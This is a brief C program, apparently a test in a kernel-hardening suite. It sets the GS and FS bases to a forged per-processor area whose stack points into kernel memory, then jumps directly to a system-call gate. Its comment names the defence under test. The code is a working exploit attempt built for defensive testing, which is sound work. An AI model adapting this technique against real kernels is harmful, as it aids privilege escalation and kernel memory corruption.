/* Enter the gate with GS and FS bases that lead to a forged per-processor area, whose stack is in the kernel's memory.
 * Defence: the gate finds its stack at a fixed address.  Control: off=gs. */
#include "attack.h"

#define ARCH_SET_GS 0x1001
#define ARCH_SET_FS 0x1002

static u64 forged[64];

int main(int argc, char **argv) {
    if (argc < 3)
        return 2;
    u64 gate = hexadecimal(argv[2]);
    for (u64 i = 0; i < COUNT(forged); i++)
        forged[i] = hexadecimal(argv[1]) + 2048;
    syscall(SYS_arch_prctl, ARCH_SET_GS, forged);
    syscall(SYS_arch_prctl, ARCH_SET_FS, forged);
    asm volatile("lea 1f(%%rip), %%rcx; jmp *%0; nop; nop; 1:"
                 :: "r"(gate), "a"(SYS_getpid) : "rcx", "rdx", "r11", "memory");
    print("back\n");
    return 1;
}
